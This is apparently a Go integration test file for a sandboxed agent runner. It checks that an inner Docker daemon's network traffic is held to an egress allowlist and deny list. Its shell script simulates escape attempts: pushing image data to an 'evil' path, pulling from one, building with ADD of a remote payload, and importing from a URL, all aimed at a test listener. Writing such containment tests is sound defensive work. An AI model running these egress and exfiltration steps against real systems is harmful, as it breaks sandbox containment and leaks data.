package docker_test

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"

	"github.com/sandbox-bot/sandbox-bot/dispatch"
	"github.com/sandbox-bot/sandbox-bot/dispatch/docker"
	"github.com/sandbox-bot/sandbox-bot/dispatch/docker/dockertest"
	"github.com/sandbox-bot/sandbox-bot/dispatch/sandboxcfg"
)

// tlsRegistry serves an in-memory registry (go-containerregistry's) over
// TLS on the bridge gateway, with a certificate for the gateway's address,
// holding one image at ok/img:1. It returns the registry's host:port and
// the CA in PEM.
func tlsRegistry(t *testing.T) (hostPort string, caPEM []byte) {
	t.Helper()
	gw := dockertest.Gateway(t)
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "sandbox-test registry"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IPAddresses: []net.IP{net.ParseIP(gw)}, IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", net.JoinHostPort(gw, "0"))
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: registry.New(registry.Logger(log.New(io.Discard, "", 0))), TLSConfig: &tls.Config{
		Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}},
	}}
	go srv.ServeTLS(l, "", "")
	t.Cleanup(func() { srv.Close() })
	hostPort = l.Addr().String()
	pool := x509.NewCertPool()
	cert, _ := x509.ParseCertificate(der)
	pool.AddCert(cert)
	img, err := random.Image(512, 1)
	if err != nil {
		t.Fatal(err)
	}
	ref, err := name.ParseReference(hostPort + "/ok/img:1")
	if err != nil {
		t.Fatal(err)
	}
	tr := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}
	if err := remote.Write(ref, img, remote.WithTransport(tr)); err != nil {
		t.Fatalf("seed the registry: %v", err)
	}
	return hostPort, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}

// daemonEgressScript runs as the agent: the inner daemon's own traffic,
// which the agent asks for and the daemon (root) carries out. Each line
// of daemon.txt is "<name> ok|failed :: <last words>".
const daemonEgressScript = `set -u
r() {
	name=$1; shift
	if out=$("$@" 2>&1); then
		printf '%s ok :: %s\n' "$name" "$(printf '%s\n' "$out" | tail -n1)"
	else
		printf '%s failed :: %s\n' "$name" "$(printf '%s\n' "$out" | tail -n2 | tr '\n' ' ')"
	fi >> daemon.txt
}
touch daemon.txt
echo '{"type":"tool_use","tool":"write","input":{"filePath":"daemon.txt"}}'
while [ ! -e /sandbox/out/go ]; do sleep 0.1; done
r pull docker pull "$LISTENER/evil/img:1"
docker tag sandbox-test/svc:1 "$LISTENER/evil/data:1"
r push docker push "$LISTENER/evil/data:1"
mkdir -p ctx && printf 'FROM sandbox-test/svc:1\nADD http://%s/payload /payload\n' "$LISTENER" > ctx/Dockerfile
r build-add env DOCKER_BUILDKIT=0 docker build -q -t evil/add:1 ctx
r buildkit-add env DOCKER_BUILDKIT=1 docker build -q -t evil/add:2 ctx
r import docker import "http://$LISTENER/x.tar" evil/import:1
[ -z "${REGISTRY:-}" ] || r pull-listed docker pull "$REGISTRY/ok/img:1"
echo 'Tried the daemon.'`

// daemonEgressRun runs the script in a sandbox of f with cfg and returns
// the lines of daemon.txt by name; before the script starts, the
// registry's CA (when there is one) goes where the inner daemon reads it.
func daemonEgressRun(t *testing.T, f *fixture, id string, cfg sandboxcfg.Config, registryHost string, ca []byte) map[string]string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 6*time.Minute)
	defer cancel()
	spec := f.spec(id, dispatch.ModeExecute, cfg)
	f.submit(t, ctx, spec)
	w := wait(ctx, f.b, id)
	w.until(t, ctx, "the agent's first write", toolIs("write"))
	if registryHost != "" {
		// The operator's part: the registry's CA, for the daemon (root's
		// directory; the agent has no say in it).
		sandbox := "sandbox-" + id + "-" + string(spec.Meta.Mode)
		cmd := exec.Command("docker", "exec", "-i", sandbox, "sh", "-c", `mkdir -p "/etc/docker/certs.d/$1" && cat > "/etc/docker/certs.d/$1/ca.crt"`, "sh", registryHost)
		cmd.Stdin = strings.NewReader(string(ca))
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("install the registry's CA: %v: %s", err, out)
		}
	}
	if err := os.WriteFile(filepath.Join(f.b.OutputDir(id), "go"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	st := w.result(t)
	res, err := f.b.Result(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	if st.ExitCode != 0 || res.Status != dispatch.StatusCompleted {
		t.Fatalf("run = %+v, result %s (%+v)", st, res.Status, res.Error)
	}
	got, ok := f.remote.File(t, spec.Order.TargetBranch, "daemon.txt")
	if !ok {
		t.Fatal("daemon.txt was not pushed")
	}
	lines := map[string]string{}
	for _, l := range strings.Split(strings.TrimSpace(got), "\n") {
		n, rest, _ := strings.Cut(l, " ")
		lines[n] = rest
	}
	t.Logf("daemon.txt:\n%s", got)
	return lines
}

// With network.allow set to one unrelated name (and the test registry),
// the inner daemon's own traffic goes through the allowlist: a pull, a
// push, a classic and a BuildKit build's ADD of a URL and an import from a
// URL, all naming a listener on the test host, fail, and the listener
// records no connection at all; a pull from the listed registry works.
// In the caps profile and behind gVisor.
func TestEgressAllowlistHoldsTheInnerDaemon(t *testing.T) {
	dockertest.ForEachProfile(t, egressAllowlistHoldsTheInnerDaemon)
}

func egressAllowlistHoldsTheInnerDaemon(t *testing.T, iso dispatch.Isolation) {
	f := newFixture(t, withIsolation(iso))
	listener, conns := dockertest.ConnCounter(t)
	reg, ca := tlsRegistry(t)
	cfg := sandboxcfg.Config{
		Harness:  "command",
		Services: webService(f.svc),
		Network:  sandboxcfg.Network{Allow: []string{"unrelated.example", reg}},
		Env:      map[string]string{"LISTENER": listener, "REGISTRY": reg},
		Command:  daemonEgressScript,
	}
	lines := daemonEgressRun(t, f, "T-E6E55D01", cfg, reg, ca)
	for _, n := range []string{"pull", "push", "build-add", "buildkit-add", "import"} {
		if got, ok := lines[n]; !ok || !strings.HasPrefix(got, "failed") {
			t.Errorf("%s through the inner daemon: %q, want it to fail", n, got)
		}
	}
	if got := lines["pull"]; !strings.Contains(got, "403") && !strings.Contains(got, "Forbidden") {
		t.Errorf("the pull failed, but not at the proxy: %q", got)
	}
	if got := lines["pull-listed"]; !strings.HasPrefix(got, "ok") {
		t.Errorf("a pull from the listed registry: %q, want it to work", got)
	}
	if n := conns.Load(); n != 0 {
		t.Errorf("the listener on the test host got %d connections from the sandbox", n)
	}
	if !strings.Contains(sandboxLog(t, "T-E6E55D01", dispatch.ModeExecute), `"message":"inner Docker daemon held to the egress proxy"`) {
		t.Error("the sandbox log does not say the daemon was fenced")
	}
}

// Without network.allow the daemon's traffic is open, except for the deny
// list, which holds for it as for everything in the sandbox: the bot's
// port on the host is refused to a pull and a push as it is to the agent.
// In the caps profile and behind gVisor.
func TestEgressDefaultsHoldTheInnerDaemon(t *testing.T) {
	dockertest.ForEachProfile(t, egressDefaultsHoldTheInnerDaemon)
}

func egressDefaultsHoldTheInnerDaemon(t *testing.T, iso dispatch.Isolation) {
	listener, conns := dockertest.ConnCounter(t)
	_, port, _ := net.SplitHostPort(listener)
	f := newFixture(t, withIsolation(iso), func(o *docker.Options) { o.BotListen = []string{":" + port} })
	cfg := sandboxcfg.Config{
		Harness:  "command",
		Services: webService(f.svc),
		Env:      map[string]string{"LISTENER": listener},
		Command:  daemonEgressScript,
	}
	lines := daemonEgressRun(t, f, "T-E6E55D02", cfg, "", nil)
	for _, n := range []string{"pull", "push", "build-add", "buildkit-add"} {
		if got := lines[n]; !strings.HasPrefix(got, "failed") {
			t.Errorf("%s of the bot's port through the inner daemon: %q, want it to fail", n, got)
		}
	}
	for _, n := range []string{"pull", "push", "build-add"} {
		if got := lines[n]; !strings.Contains(got, "connection refused") {
			t.Errorf("%s failed, but not at the deny list's reset: %q", n, got)
		}
	}
	if n := conns.Load(); n != 0 {
		t.Errorf("the bot's port got %d connections from the sandbox", n)
	}
}
